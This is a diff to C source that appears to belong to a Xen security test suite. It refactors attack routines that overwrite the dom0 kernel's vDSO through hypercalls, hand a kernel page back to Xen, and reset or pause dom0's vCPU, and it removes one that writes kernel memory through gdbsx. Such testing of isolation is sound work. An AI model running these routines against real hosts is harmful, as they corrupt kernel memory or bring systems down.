@@ -6,6 +6,8 @@
  */
 #include "../rogue.h"
 
+#include <sys/mman.h>
+
 #include <xen/grant_table.h>
 
 const uint8_t *vdso_page(void)
@@ -27,13 +29,20 @@ const uint8_t *vdso_page(void)
     return (const uint8_t *)(end - PAGE_SIZE);
 }
 
-void copy_frame(uint64_t to, uint64_t from)
+void copy_to_frame(uint64_t frame, uint64_t offset, const void *bytes,
+                   size_t size)
 {
-    gnttab_copy_t copy = { .source = { .u.gmfn = from, .domid = DOMID_SELF },
-                           .dest = { .u.gmfn = to, .domid = DOMID_SELF },
-                           .len = PAGE_SIZE };
+    char *source = memcpy(buffer(PAGE_SIZE), bytes, size);
+    gnttab_copy_t copy = {
+        .source = { .u.gmfn = own_frame(source), .domid = DOMID_SELF },
+        .dest = { .u.gmfn = frame,
+                  .domid = DOMID_SELF,
+                  .offset = (uint16_t)offset },
+        .len = (uint16_t)size,
+    };
 
-    hypercall3(__HYPERVISOR_grant_table_op, GNTTABOP_copy, &copy, 1);
+    grant_op(GNTTABOP_copy, &copy);
+    munmap(source, PAGE_SIZE);
 }
 
 /*
@@ -61,7 +70,7 @@ ATTACK("U-HCALLPAGE", "write a hypercall page over a kernel frame")
     DOMCTL(hypercall_init, 0, .u.hypercall_init.gmfn = frame);
     changed = memcmp(before, page, PAGE_SIZE);
     if ( changed )
-        copy_frame(frame, own_frame(before));
+        copy_to_frame(frame, 0, before, PAGE_SIZE);
 
     return effect_either(changed, "the kernel's vDSO",
                          "overwritten with hypercalls", "unchanged");
@@ -73,63 +82,34 @@ ATTACK("U-HCALLPAGE", "write a hypercall page over a kernel frame")
  * decrease_reservation gives memory back to Xen, and does not ask whether the
  * kernel still uses it. Where the page was, nothing answers any more.
  */
-ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen")
+PVH_ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen",
+           "of a PV domain Xen frees no frame that is still mapped")
 {
     const uint8_t *page = vdso_page();
     uint8_t *before = buffer(PAGE_SIZE);
-    xen_pfn_t *frames = buffer(PAGE_SIZE);
-    struct xen_memory_reservation *reservation = buffer(PAGE_SIZE);
+    xen_pfn_t frame;
+    struct xen_memory_reservation reservation = { .extent_start.p = &frame,
+                                                  .nr_extents = 1,
+                                                  .domid = DOMID_SELF };
     bool gone;
 
-    if ( dom0_is_pv() )
-        return not_applicable(
-            "PVH only: of a PV domain Xen frees no frame that is still mapped");
     if ( !page )
         return cannot_try("no page of the kernel's in sight");
 
     memcpy(before, page, PAGE_SIZE);
-    *frames = own_frame(page);
-    if ( !*frames )
+    frame = own_frame(page);
+    if ( !frame )
         return cannot_try("no frame for the kernel's page");
 
-    set_xen_guest_handle(reservation->extent_start, frames);
-    reservation->nr_extents = 1;
-    reservation->domid = DOMID_SELF;
-    memory_op(XENMEM_decrease_reservation, reservation);
-
+    memory_op(XENMEM_decrease_reservation, &reservation);
     gone = !survives(touch, (void *)page) || memcmp(before, page, PAGE_SIZE);
     if ( gone )
     {
-        memory_op(XENMEM_populate_physmap, reservation);
-        copy_frame(*frames, own_frame(before));
+        memory_op(XENMEM_populate_physmap, &reservation);
+        copy_to_frame(frame, 0, before, PAGE_SIZE);
     }
 
     return effect_either(gone, "the kernel's vDSO", "lost its memory",
-                         "unchanged");
-}
-
-/*
- * U-GDBSX: write to the kernel as a debugger of guests would.
- *
- * gdbsx's memory access walks the page tables of whichever domain it is given,
- * with no regard to what they make read-only.
- */
-ATTACK("U-GDBSX", "write to a kernel variable through gdbsx")
-{
-    char *bytes = buffer(PAGE_SIZE);
-    long result;
-    bool written;
-
-    memcpy(bytes, new_mark(), MARK_SIZE);
-    result = DOMCTL(gdbsx_guestmemio, 0, .u.gdbsx_guest_memio.gva = victim(),
-                    .u.gdbsx_guest_memio.uva = (uintptr_t)bytes,
-                    .u.gdbsx_guest_memio.len = MARK_SIZE,
-                    .u.gdbsx_guest_memio.gwr = 1);
-    written = victim_has_mark();
-
-    if ( !written && (result == -ENOSYS || result == -EOPNOTSUPP) )
-        return not_applicable("this Xen is built without gdbsx");
-    return effect_either(written, "the kernel's version", "rewritten",
                          "unchanged");
 }
 
@@ -142,21 +122,10 @@ ATTACK("U-GDBSX", "write to a kernel variable through gdbsx")
  */
 ATTACK("U-SETCTX", "reset, narrow or pause dom0's own vCPU")
 {
-    struct xen_domctl *op = buffer(PAGE_SIZE);
-
     announce("about to reset dom0");
-
-    op->cmd = XEN_DOMCTL_setvcpucontext;
-    domctl(op);
-
-    memset(op, 0, sizeof(*op));
-    op->cmd = XEN_DOMCTL_set_address_size;
-    op->u.address_size.size = 32;
-    domctl(op);
-
-    memset(op, 0, sizeof(*op));
-    op->cmd = XEN_DOMCTL_pausedomain;
-    domctl(op);
+    DOMCTL(setvcpucontext, 0);
+    DOMCTL(set_address_size, 0, .u.address_size.size = 32);
+    DOMCTL(pausedomain, 0);
 
     return effect(false, "dom0 runs on as before");
 }
